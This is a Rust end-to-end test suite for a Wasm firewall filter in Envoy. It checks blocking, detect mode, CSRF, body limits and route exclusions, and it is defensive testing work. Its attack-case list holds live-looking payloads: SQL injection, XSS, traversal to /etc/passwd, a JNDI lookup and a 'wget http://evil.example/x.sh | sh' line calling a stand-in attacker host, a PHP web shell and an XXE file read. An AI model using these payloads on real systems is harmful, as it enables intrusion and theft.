//! The WAF in a real Envoy: benign requests reach the upstream, attacks in
//! every part of a request are refused with a problem body, detect-only
//! mode, CSRF (blocking and shadow), the body limit, route exclusions, the
//! published decision and the metrics.

use palisade_e2e::tokens::TestIssuer;
use palisade_e2e::{EchoUpstream, Envoy, EnvoyConfig, Request, Response};
use serde_json::{json, Value};

const DECISION_LOG: &str =
    "%FILTER_STATE(wasm.palisade.waf:PLAIN)% %FILTER_STATE(wasm.palisade.denial:PLAIN)%\n";

fn envoy_with(config: Value) -> (EchoUpstream, Envoy) {
    let upstream = EchoUpstream::start();
    let envoy = EnvoyConfig::new()
        .wasm_filter("waf", config)
        .upstream(&upstream)
        .access_log_format(DECISION_LOG)
        .start();
    (upstream, envoy)
}

fn counter(envoy: &Envoy, name: &str) -> u64 {
    envoy
        .counter(name)
        .unwrap_or_else(|| panic!("no counter {name}"))
}

fn assert_refused(r: &Response, status: u16) -> Value {
    assert_eq!(r.status, status, "{}", r.text());
    assert_eq!(r.header("content-type"), Some("application/problem+json"));
    let body = r.json();
    assert_eq!(body["status"], status);
    body
}

/// The last access-log line, split into the decision and the denial.
fn last_decision(envoy: &Envoy, n: usize) -> (Value, Option<Value>) {
    let lines = envoy.wait_access_log(n);
    let line = lines.last().expect("an access-log line").clone();
    let (decision, denial) = line.split_once(' ').unwrap_or((&line, "-"));
    let decision = serde_json::from_str(decision).unwrap_or_else(|e| panic!("{e}: {line}"));
    let denial = (denial.trim() != "-").then(|| serde_json::from_str(denial.trim()).unwrap());
    (decision, denial)
}

#[test]
fn benign_requests_reach_the_upstream() {
    let (_up, envoy) = envoy_with(json!({}));
    let r = envoy.request(
        Request::get("/api/v1/search?q=o%27reilly+books&page=2")
            .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let body = json!({"name": "Conan O'Brien", "bio": "select the best option from the drop-down", "tags": ["a", "b"]});
    let r = envoy.request(
        Request::post("/api/v1/users", body.to_string())
            .header("content-type", "application/json")
            .header("origin", "http://localhost"),
    );
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(
        r.json()["body"],
        body.to_string(),
        "the upstream got the body unchanged"
    );
    let (decision, denial) = last_decision(&envoy, 2);
    assert_eq!(decision["action"], "allowed");
    assert_eq!(decision["score"], 0);
    assert!(denial.is_none());
    assert_eq!(counter(&envoy, "palisade.waf.requests.allowed"), 2);
}

#[test]
fn attacks_anywhere_are_refused_with_a_problem_body() {
    let (_up, envoy) = envoy_with(json!({"expose_rule_ids": true}));
    let cases: Vec<(&str, Request)> = vec![
        ("sqli", Request::get("/items?id=1%27%20OR%20%271%27%3D%271")),
        ("xss", Request::get("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
        ("lfi", Request::get("/download?file=..%2F..%2F..%2Fetc%2Fpasswd")),
        ("rce", Request::get("/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd")),
        ("java", Request::get("/").header("x-api-version", "${jndi:ldap://evil.example/a}")),
        ("xss", Request::get("/").header("cookie", "prefs=%3Csvg%20onload%3Dalert(1)%3E")),
        ("scanner", Request::get("/").header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")),
        (
            "sqli",
            Request::post("/api/login", r#"{"user":{"name":"admin' UNION SELECT password FROM users--"}}"#)
                .header("content-type", "application/json"),
        ),
        (
            "php",
            Request::post("/comment", "text=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+%3F%3E")
                .header("content-type", "application/x-www-form-urlencoded"),
        ),
        (
            "rce",
            Request::post(
                "/upload",
                "--b\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\n; wget http://evil.example/x.sh | sh\r\n--b--\r\n",
            )
            .header("content-type", "multipart/form-data; boundary=b"),
        ),
        (
            "xxe",
            Request::post("/soap", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>")
                .header("content-type", "application/xml"),
        ),
    ];
    let n = cases.len();
    let mut families = Vec::new();
    for (family, request) in cases {
        let body = assert_refused(&envoy.request(request), 403);
        // Envoy's own request id (it replaces a client's at the edge).
        assert_eq!(
            body["request_id"].as_str().map(str::len),
            Some(36),
            "{body}"
        );
        assert!(!body["rule_ids"].as_array().unwrap().is_empty(), "{body}");
        families.push(family);
    }
    // Envoy flushes the access log on a timer: read it once, at the end.
    let lines = envoy.wait_access_log(n);
    assert_eq!(lines.len(), n);
    for (family, line) in families.iter().zip(&lines) {
        let (decision, denial) = line.split_once(' ').unwrap();
        let decision: Value = serde_json::from_str(decision).unwrap();
        let denial: Value = serde_json::from_str(denial.trim()).unwrap();
        assert_eq!(decision["action"], "blocked");
        assert!(decision["score"].as_u64().unwrap() >= 5);
        assert!(
            decision["matches"]
                .as_array()
                .unwrap()
                .iter()
                .any(|m| m["family"] == *family),
            "{family}: {decision}"
        );
        assert_eq!(denial["filter"], "waf");
        assert_eq!(denial["status"], 403);
        assert_eq!(denial["reason"], "attack_detected");
    }
    // A match in a JSON body is located by its path in the document.
    assert!(
        lines
            .iter()
            .any(|l| l.contains(r#""location":"json.user.name""#)),
        "{lines:?}"
    );
    // Attacks in the head never open an upstream stream; for attacks in the
    // body the headers have gone on (Envoy cannot hold them while a Wasm
    // filter reads the body) but the body never does, and the stream is
    // reset: the upstream never answers.
    assert_eq!(
        envoy
            .counter("cluster.upstream.upstream_rq_2xx")
            .unwrap_or(0),
        0
    );
    assert_eq!(counter(&envoy, "palisade.waf.requests.blocked"), n as u64);
    assert!(counter(&envoy, "palisade.waf.family.sqli.blocked") >= 2);
    assert_eq!(counter(&envoy, "palisade.waf.family.scanner.blocked"), 1);
    assert_eq!(counter(&envoy, "palisade.waf.requests.allowed"), 0);
}

#[test]
fn rule_ids_are_hidden_unless_exposed() {
    let (_up, envoy) = envoy_with(json!({}));
    let body = assert_refused(&envoy.get("/items?id=1%27%20OR%20%271%27%3D%271"), 403);
    assert!(body.get("rule_ids").is_none(), "{body}");
}

#[test]
fn detect_mode_lets_attacks_through_and_reports_them() {
    let (_up, envoy) = envoy_with(json!({"mode": "detect"}));
    let r = envoy.get("/items?id=1%27%20OR%20%271%27%3D%271");
    assert_eq!(r.status, 200);
    let (decision, denial) = last_decision(&envoy, 1);
    assert_eq!(decision["action"], "detected");
    assert!(denial.is_none());
    assert_eq!(counter(&envoy, "palisade.waf.requests.detected"), 1);
    assert_eq!(counter(&envoy, "palisade.waf.family.sqli.detected"), 1);
}

#[test]
fn csrf_refuses_cross_site_writes_and_shadow_mode_only_reports() {
    let (_up, envoy) =
        envoy_with(json!({"csrf": {"allowed_origins": ["https://app.example.com"]}}));
    let post = |origin: &str| {
        envoy.request(
            Request::post("/api/transfer", "amount=10")
                .header("content-type", "application/x-www-form-urlencoded")
                .header("origin", origin),
        )
    };
    let body = assert_refused(&post("https://evil.example"), 403);
    assert!(
        body["detail"]
            .as_str()
            .unwrap()
            .contains("csrf_origin_mismatch"),
        "{body}"
    );
    let (decision, denial) = last_decision(&envoy, 1);
    assert_eq!(decision["action"], "csrf_blocked");
    assert_eq!(denial.unwrap()["reason"], "csrf_origin_mismatch");
    assert_eq!(post("https://app.example.com").status, 200);
    assert_eq!(post("http://localhost").status, 200, "same origin");
    assert_eq!(envoy.get("/api/transfer").status, 200, "GET is not checked");
    assert_eq!(counter(&envoy, "palisade.waf.requests.csrf_blocked"), 1);

    let (_up2, shadow) = envoy_with(json!({"csrf": {"shadow": true}}));
    let r = shadow.request(
        Request::post("/api/transfer", "amount=10")
            .header("content-type", "application/x-www-form-urlencoded")
            .header("origin", "https://evil.example"),
    );
    assert_eq!(r.status, 200);
    let (decision, _) = last_decision(&shadow, 1);
    assert_eq!(decision["action"], "csrf_shadow");
    assert_eq!(counter(&shadow, "palisade.waf.requests.csrf_shadow"), 1);
}

#[test]
fn bodies_over_the_limit_are_refused_or_inspected_by_prefix() {
    let big = format!(
        "{}&q=%27+UNION+SELECT+password+FROM+users--",
        "a=1".repeat(400)
    );
    let form = |body: &str| {
        Request::post("/form", body.to_string())
            .header("content-type", "application/x-www-form-urlencoded")
    };
    let (_up, reject) = envoy_with(json!({"max_body_bytes": 1024, "body_limit_action": "reject"}));
    assert_refused(&reject.request(form(&big)), 413);
    assert_eq!(reject.request(form("a=1")).status, 200);
    assert_eq!(counter(&reject, "palisade.waf.requests.body_too_large"), 1);

    let (_up2, prefix) = envoy_with(json!({"max_body_bytes": 1024}));
    let r = prefix.request(form(&big));
    assert_eq!(r.status, 200, "the attack is beyond the inspected prefix");
    assert_eq!(
        r.json()["body"].as_str().unwrap().len(),
        big.len(),
        "the whole body went upstream"
    );
    let small = "x=1&q=%27+UNION+SELECT+password+FROM+users--";
    assert_refused(&prefix.request(form(small)), 403);
}

#[test]
fn exclusions_apply_per_route() {
    let (_up, envoy) = envoy_with(json!({
        "exclusions": [
            {"match": {"path": {"prefix": "/cms/"}}, "parameters": ["html"], "families": ["xss"]},
            {"match": {"path": {"prefix": "/internal/"}}}
        ]
    }));
    let xss = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    assert_eq!(envoy.get(&format!("/cms/page?html={xss}")).status, 200);
    assert_eq!(envoy.get(&format!("/cms/page?title={xss}")).status, 403);
    assert_eq!(envoy.get(&format!("/blog/page?html={xss}")).status, 403);
    assert_eq!(
        envoy.get(&format!("/internal/debug?html={xss}")).status,
        200
    );
}

#[test]
fn exclusions_can_name_an_envoy_route() {
    // The adapter reads Envoy's route name only when a match names a route.
    let upstream = EchoUpstream::start();
    let envoy = EnvoyConfig::new()
        .wasm_filter(
            "waf",
            json!({"exclusions": [{"match": {"route_name": "cms"}, "families": ["xss"]}]}),
        )
        .upstream(&upstream)
        .routes(json!([
            {"name": "cms", "match": {"prefix": "/cms/"}, "route": {"cluster": "upstream"}},
            {"name": "other", "match": {"prefix": "/"}, "route": {"cluster": "upstream"}}
        ]))
        .start();
    let xss = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    assert_eq!(envoy.get(&format!("/cms/page?html={xss}")).status, 200);
    assert_eq!(envoy.get(&format!("/blog/page?html={xss}")).status, 403);
}

#[test]
fn the_decision_says_whether_the_body_was_inspected() {
    let upstream = EchoUpstream::start();
    let envoy = EnvoyConfig::new()
        .wasm_filter("waf", json!({"csrf": {"enabled": false}}))
        .upstream(&upstream)
        .routes(json!([
            { "match": { "prefix": "/answered" }, "direct_response": { "status": 200, "body": { "inline_string": "ok" } } },
            { "match": { "prefix": "/" }, "route": { "cluster": "upstream", "timeout": "30s" } }
        ]))
        .access_log_format(DECISION_LOG)
        .start();
    let form = |path: &str, body: &str| {
        Request::post(path, body.to_string())
            .header("content-type", "application/x-www-form-urlencoded")
    };
    // The body reaches the WAF before the upstream.
    let r = envoy.request(form("/api/items", "comment=hello"));
    assert_eq!(r.status, 200, "{}", r.text());
    let (decision, _) = last_decision(&envoy, 1);
    assert_eq!(decision["body_inspected"], true, "{decision}");
    // No body: nothing to inspect.
    assert_eq!(envoy.get("/api/items?q=shoes").status, 200);
    let (decision, _) = last_decision(&envoy, 2);
    assert_eq!(decision["body_inspected"], false, "{decision}");
    // Envoy answers this route at the headers: the body never reaches the
    // WAF, whose decision (made on the head) says so.
    let r = envoy.request(form(
        "/answered",
        "comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ));
    assert_eq!(r.status, 200, "{}", r.text());
    let (decision, _) = last_decision(&envoy, 3);
    assert_eq!(decision["action"], "allowed", "{decision}");
    assert_eq!(decision["body_inspected"], false, "{decision}");
}

#[test]
fn a_later_refusal_at_the_headers_leaves_a_decision_made_without_the_body() {
    let issuer = TestIssuer::new("https://idp.example.com", "k1", 7);
    let upstream = EchoUpstream::start();
    let envoy = EnvoyConfig::new()
        .wasm_filter("waf", json!({"csrf": {"enabled": false}}))
        .wasm_filter(
            "jwt",
            json!({"providers": {"corp": {"issuer": issuer.issuer, "audiences": ["api"], "jwks": issuer.jwks()}}}),
        )
        .upstream(&upstream)
        .access_log_format(DECISION_LOG)
        .start();
    // No token: the JWT filter answers 401 at the headers; the body (an
    // attack) never reaches the WAF.
    let r = envoy.request(
        Request::post("/api/items", "comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E")
            .header("content-type", "application/x-www-form-urlencoded"),
    );
    assert_eq!(r.status, 401, "{}", r.text());
    let (decision, denial) = last_decision(&envoy, 1);
    assert_eq!(decision["action"], "allowed", "{decision}");
    assert_eq!(decision["body_inspected"], false, "{decision}");
    assert!(denial.is_some_and(|d| d["filter"] == "jwt"));
    // With a token the body reaches the WAF, which refuses it.
    let token = issuer.token(json!({"sub": "alice"}));
    let r = envoy.request(
        Request::post("/api/items", "comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E")
            .header("content-type", "application/x-www-form-urlencoded")
            .header("authorization", &format!("Bearer {token}")),
    );
    assert_refused(&r, 403);
    let (decision, _) = last_decision(&envoy, 2);
    assert_eq!(decision["body_inspected"], true, "{decision}");
}

#[test]
fn an_invalid_configuration_stops_envoy() {
    let log = EnvoyConfig::new()
        .wasm_filter("waf", json!({"paranoia_level": 7}))
        .start_expecting_failure();
    assert!(log.contains("paranoia_level"), "{log}");
    let log = EnvoyConfig::new()
        .wasm_filter(
            "waf",
            json!({"custom_rules": [{"id": 100001, "targets": ["args"], "regex": "(a)\\1"}]}),
        )
        .start_expecting_failure();
    assert!(log.contains("custom_rules[0]"), "{log}");
}
